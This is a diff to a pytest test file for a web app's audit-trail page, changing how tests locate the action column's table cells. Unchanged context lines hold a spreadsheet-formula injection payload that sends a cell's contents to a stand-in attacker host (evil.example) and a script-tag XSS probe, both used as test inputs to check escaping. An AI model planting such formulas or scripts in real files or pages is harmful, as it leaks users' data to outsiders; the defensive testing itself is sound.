@@ -18,6 +18,9 @@ from .test_audit import behind_the_trigger
 Action = AuditEvent.Action
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
+# The action column's cell of an event, labelled for phones (where the table reads as cards).
+ACTION_CELL = '<td data-label="Action">{}</td>'
+
 
 @pytest.fixture(autouse=True)
 def empty_cache():
@@ -52,7 +55,7 @@ def test_the_secretariat_sees_the_newest_events_first_escaped(client, officer, t
 
     html = page(client)
 
-    cells = [html.index(f"<td>{label}</td>") for label in ["Deadline extended", "Reopened", "Submitted"]]
+    cells = [html.index(ACTION_CELL.format(label)) for label in ["Deadline extended", "Reopened", "Submitted"]]
     assert cells == sorted(cells)
     assert "203.0.113.9" in html and "HLD-FRA-2026-7KQ2M9" in html
     assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
@@ -71,7 +74,7 @@ def test_filters_narrow_the_trail(client, officer, trail, filters, expected):
 
     html = page(client, **filters)
 
-    shown = [label for label in ["Submitted", "Reopened", "Deadline extended"] if f"<td>{label}</td>" in html]
+    shown = [label for label in ["Submitted", "Reopened", "Deadline extended"] if ACTION_CELL.format(label) in html]
     assert sorted(shown) == sorted(expected)
 
 
@@ -80,7 +83,7 @@ def test_a_filter_not_understood_is_said_and_ignored(client, officer, trail):
 
     html = page(client, date_from="yesterday")
 
-    assert "Some filters were not understood" in html and "<td>Submitted</td>" in html
+    assert "Some filters were not understood" in html and ACTION_CELL.format("Submitted") in html
 
 
 @pytest.mark.parametrize("person", ["focal_point_france", "civil_society_rep", "coordinator_africa", "outsider"])
